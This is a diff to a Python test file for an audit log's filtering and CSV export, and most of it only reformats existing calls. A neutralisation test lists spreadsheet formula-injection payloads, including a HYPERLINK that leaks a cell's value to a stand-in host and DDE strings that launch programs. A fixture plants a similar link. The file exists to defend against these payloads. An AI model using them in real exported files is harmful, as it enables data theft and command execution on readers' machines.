@@ -38,20 +38,10 @@ def history(cast: Cast) -> None:
     with time_machine.travel(datetime(2026, 3, 1, 9, tzinfo=UTC), tick=False):
         audit_record(action="member.added", actor=cast.alice, organization=cast.org_a, target_label="bob@acme.test")
     with time_machine.travel(datetime(2026, 3, 2, 9, tzinfo=UTC), tick=False):
-        audit_record(
-            action="member.role_changed",
-            actor=cast.alice,
-            organization=cast.org_a,
-            target_label="carol@acme.test",
-            details={"from": "member", "to": "admin"},
-        )
-        audit_record(
-            action="invitation.accept_refused", actor=cast.bob, organization=cast.org_a, target_label="x@example.test", result="denied"
-        )
+        audit_record(action="member.role_changed", actor=cast.alice, organization=cast.org_a, target_label="carol@acme.test", details={"from": "member", "to": "admin"})
+        audit_record(action="invitation.accept_refused", actor=cast.bob, organization=cast.org_a, target_label="x@example.test", result="denied")
     with time_machine.travel(datetime(2026, 3, 3, 9, tzinfo=UTC), tick=False):
-        audit_record(
-            action="team.created", actor=cast.carol, organization=cast.org_a, target_label='=HYPERLINK("http://evil.test","click")'
-        )
+        audit_record(action="team.created", actor=cast.carol, organization=cast.org_a, target_label='=HYPERLINK("http://evil.test","click")')
         audit_record(action="team.created", actor=cast.charlie, organization=cast.org_b, target_label="Beta secret team")
 
 
@@ -84,10 +74,7 @@ def test_log_filters_by_action_person_result_and_dates(cast: Cast, client_as) ->
     assert _shown_actions(client.get(LOG, {"action": "member."})) == ["member.role_changed", "member.added"]
     assert _shown_actions(client.get(LOG, {"person": "carol"})) == ["team.created", "member.role_changed"]  # actor or target
     assert _shown_actions(client.get(LOG, {"result": "denied"})) == ["invitation.accept_refused"]
-    assert _shown_actions(client.get(LOG, {"since": "2026-03-02", "until": "2026-03-02"})) == [
-        "invitation.accept_refused",
-        "member.role_changed",
-    ]
+    assert _shown_actions(client.get(LOG, {"since": "2026-03-02", "until": "2026-03-02"})) == ["invitation.accept_refused", "member.role_changed"]
     assert _shown_actions(client.get(LOG, {"since": "2026-03-03"})) == ["team.created"]
     assert _shown_actions(client.get(LOG, {"action": "member.", "person": "bob", "until": "2026-03-01"})) == ["member.added"]
 
@@ -127,19 +114,8 @@ def is_dangerous(value: str) -> bool:
 
 def test_r41_every_trigger_after_optional_whitespace_is_neutralised() -> None:
     payloads = [
-        '=HYPERLINK("http://evil.test?leak="&A1,"Click")',
-        "@SUM(1+1)*cmd|' /C calc'!A0",
-        "+1+1",
-        "-2+3",
-        "=1+1",
-        "\t=1+1",
-        "\r=1+1",
-        "\x00=1",
-        "  =1+1",
-        "\n=1+1",
-        "\u3000@SUM(1)",
-        " \x00x",
-        "=cmd|' /C notepad'!'A1'",
+        '=HYPERLINK("http://evil.test?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "=1+1",
+        "\t=1+1", "\r=1+1", "\x00=1", "  =1+1", "\n=1+1", "\u3000@SUM(1)", " \x00x", "=cmd|' /C notepad'!'A1'",
     ]
     rows = parse_csv("".join(csv_rows(["cell"], [[payload] for payload in payloads])))
     assert [row[0] for row in rows[1:]] == ["'" + payload for payload in payloads]
@@ -147,7 +123,7 @@ def test_r41_every_trigger_after_optional_whitespace_is_neutralised() -> None:
 
 
 def test_r41_harmless_cells_round_trip() -> None:
-    cells = ["alice@acme.test", "a=b", "1-2", "", 'quote " inside', "comma, inside", "line\nbreak", "x@y", "café ☕"]
+    cells = ["alice@acme.test", "a=b", "1-2", "", "quote \" inside", "comma, inside", "line\nbreak", "x@y", "café ☕"]
     assert parse_csv("".join(csv_rows(["cell"], [[cell] for cell in cells])))[1:] == [[cell] for cell in cells]
 
 
